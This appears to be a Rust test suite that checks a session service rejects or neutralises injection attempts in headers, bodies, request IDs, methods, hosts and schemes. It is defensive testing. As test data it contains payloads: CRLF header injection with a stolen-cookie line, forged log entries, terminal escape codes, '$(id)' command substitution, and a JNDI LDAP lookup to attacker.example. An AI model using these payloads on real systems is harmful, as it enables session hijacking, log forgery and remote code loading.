//! Texts that try to break headers of answers, lines of the log, or the admin's screen.

use serde_json::{Value, json};

use super::*;
use crate::support::log::Log;

/// What breaks lines, terminals, JSON or headers. No header can hold those that are marked: the event is refused.
const INJECTIONS: &[(&str, bool)] = &[
    ("a\r\nSet-Cookie: session=stolen", true),
    ("a\n{\"level\":\"INFO\",\"event\":\"session_ended\",\"actor\":\"1\"}", true),
    ("a\r", true),
    ("a\0b", true),
    ("\u{1b}[2J\u{1b}[31mred", true),
    ("\u{7f}\u{8}\u{8}", true),
    ("a\u{85}b", false),
    ("a\u{2028}b\u{2029}c", false),
    ("a\u{202e}b\u{2066}c", false),
    ("\"}],\"role\":\"admin\",\"x\":[{\"", false),
    ("\\\",\\u000a\\", false),
    ("%0d%0aSet-Cookie:%20a=b", false),
    ("{} {user_id} {0:?} ${jndi:ldap://attacker.example/a}", false),
    ("<script>alert(1)</script>", false),
    ("é😀\u{fffd}", false),
];

/// A text of the longest length that the gateway allows a header.
fn long() -> (String, bool) {
    ("long ".repeat(2_000), false)
}

fn injections() -> impl Iterator<Item = (String, bool)> {
    INJECTIONS.iter().map(|(text, refused)| (text.to_string(), *refused)).chain([long()])
}

/// Whether every character is harmless in a table.
fn is_plain(text: &Value) -> bool {
    text.as_str().unwrap().chars().all(|c| !c.is_control() && !"\u{2028}\u{2029}\u{202e}\u{2066}".contains(c))
}

/// A sign-in that wrote its audit line and the line that closes the request; or an event that could not be read.
fn came_to_a_session(reply: &Reply, lines: &[Value], readable: bool, attempt: &str) {
    match readable {
        true => {
            assert_eq!((reply.status, lines.len()), (201, 2), "{attempt}: {} {lines:?}", reply.text);
            assert_eq!(lines[0]["event"], "session_opened");
            assert_eq!((&lines[1]["message"], &lines[1]["status"]), (&json!("answered"), &json!(201)));
            for name in ["device_name", "browser", "os", "ip_address"] {
                assert!(is_plain(&reply.body[name]), "{attempt}: {}", reply.text);
            }
        }
        false => {
            reply.problem(400, "bad_event");
            assert_eq!(lines.len(), 1, "{attempt}: {lines:?}");
            assert_eq!((&lines[0]["message"], &lines[0]["code"]), (&json!("refused"), &json!("bad_event")));
        }
    }
}

#[tokio::test]
async fn headers_inject_nothing() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let headers = [
        "user-agent",
        "sec-ch-ua",
        "sec-ch-ua-platform",
        "sec-ch-ua-platform-version",
        "sec-ch-ua-mobile",
        "x-session-id",
        "x-forwarded-for",
        "origin",
        "cookie",
    ];
    // A user each, so that no sign-in ends another session.
    let mut users = (1_000..).map(|id| user_token(&id.to_string()));
    for (text, refused) in injections() {
        for name in headers {
            let value = format!("{text}, by {name}");
            for value in [value.clone(), format!("\"{value}\"")] {
                let call = Call::of("POST /sessions/create").token(&users.next().unwrap());
                let reply = call.header(name, &value).send(&service).await;
                came_to_a_session(&reply, &log.take(), !refused, &format!("{name}: {text}"));
            }
        }
    }
}

#[tokio::test]
async fn bodies_inject_nothing() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let mut users = (1_000..).map(|id| user_token(&id.to_string()));
    for (text, _) in injections() {
        for field in ["device_name", "browser", "device_type", "device_fingerprint"] {
            let body = json!({field: format!("{text}, by {field}")});
            let reply = service.post("/sessions/create", &users.next().unwrap(), body).await;
            came_to_a_session(&reply, &log.take(), true, &format!("{field}: {text}"));
        }
    }
}

/// Percent-encodes every byte.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn reasons_inject_nothing() {
    let mut service = Service::start().await;
    let (log, _guard) = Log::start();
    for (text, _) in INJECTIONS {
        let id = service.sign_in("74", "phone").await.id;
        log.take();
        let note = format!("{text}, by reason");
        let target = format!("/sessions/user/74/session/{id}?reason={}", encoded(&note));
        let reply = service.delete(&target, &admin_token()).await;
        let messages: Vec<_> = log.take().into_iter().map(|line| line["message"].clone()).collect();
        if text.chars().any(char::is_control) {
            reply.problem(400, "bad_reason");
            assert_eq!(messages, ["refused", "answered"], "{text}");
        } else {
            let visible = note.replace(['\u{2028}', '\u{2029}'], " ").replace(['\u{202e}', '\u{2066}'], "");
            assert_eq!(reply.ok()["session"]["end_note"], visible);
            assert_eq!(messages, ["session ended", "answered"], "{text}");
        }
    }
}

#[tokio::test]
async fn request_ids_inject_nothing() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    for (text, _) in injections() {
        let name = format!("{text}, by request id");
        let call = || Call::new("GET", LIST).with("/requestContext/requestId", json!(name));
        call().token(&admin_token()).send(&service).await.ok();
        let refused = call().send(&service).await;
        refused.problem(401, "token_missing");
        assert_eq!(refused.body["request_id"], name);
        let lines = log.take();
        let events: Vec<_> = lines.iter().map(|line| line["event"].clone()).collect();
        assert_eq!(events, [json!("sessions_viewed"), json!(null), json!(null), json!(null)]);
        for line in lines {
            assert_eq!(line["span"], json!({"name": "request", "request_id": name}));
            assert!(line["role"].is_null());
        }
    }
}

/// A list writes its audit line and the line that closes the request, a refusal its reason and that line. An event that
/// could not be read has only the line of the refusal.
fn lines_of(outcome: Outcome) -> usize {
    if outcome == Some("bad_event") { 1 } else { 2 }
}

#[tokio::test]
async fn methods_hosts_and_schemes_inject_nothing() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let no_method = Some("method_not_allowed");
    let unread = Some("bad_event");
    let long = "A".repeat(8_000);
    let methods = [
        ("GET", None),
        ("get", no_method),
        ("Get", no_method),
        ("HEAD", no_method),
        ("OPTIONS", no_method),
        ("TRACE", no_method),
        ("CONNECT", no_method),
        ("PATCH", no_method),
        ("QUERY", no_method),
        ("$(id)", unread),
        // lambda_http treats an empty method as GET.
        ("", None),
        (" GET", unread),
        ("GET ", unread),
        ("GET\r\nX-Injected: 1", unread),
        ("GET\0", unread),
        ("GET\u{2028}", unread),
        ("G\"E\\T", unread),
        ("<script>", unread),
        (long.as_str(), no_method),
    ];
    for (method, outcome) in methods {
        let reply = Call::new(method, LIST).token(&admin_token()).send(&service).await;
        came_to(&reply, outcome, &format!("method {method}"));
        assert_eq!(
            reply.headers.get("allow").map(String::as_str),
            outcome.filter(|o| Some(*o) == no_method).map(|_| "GET, POST, DELETE")
        );
        let lines = log.take();
        assert_eq!(lines.len(), lines_of(outcome), "{method}: {lines:?}");
    }
    let hosts = [
        ("attacker.example", None),
        ("attacker.example/sessions/user/1?", None),
        ("attacker.example#", None),
        ("user:password@attacker.example:8443", None),
        ("[::1]", None),
        ("attacker.example\r\nX-Injected: 1", unread),
        ("a b", unread),
        ("a\0", unread),
        ("", None),
        ("a\"b", unread),
        ("[", unread),
        ("a:99999", unread),
    ];
    for (host, outcome) in hosts {
        let reply = Call::new("GET", LIST).token(&admin_token()).header("host", host).send(&service).await;
        came_to(&reply, outcome, &format!("host {host}"));
        assert_eq!(log.take().len(), lines_of(outcome), "{host}");
        assert!(!reply.all().contains("attacker"), "{host}");
    }
    let schemes = [
        ("javascript", None),
        ("https://attacker.example/", None),
        ("", unread),
        ("a b", unread),
        ("\"'", unread),
    ];
    for (scheme, outcome) in schemes {
        let call = Call::new("GET", LIST).token(&admin_token()).header("x-forwarded-proto", scheme);
        came_to(&call.send(&service).await, outcome, &format!("scheme {scheme}"));
    }
}
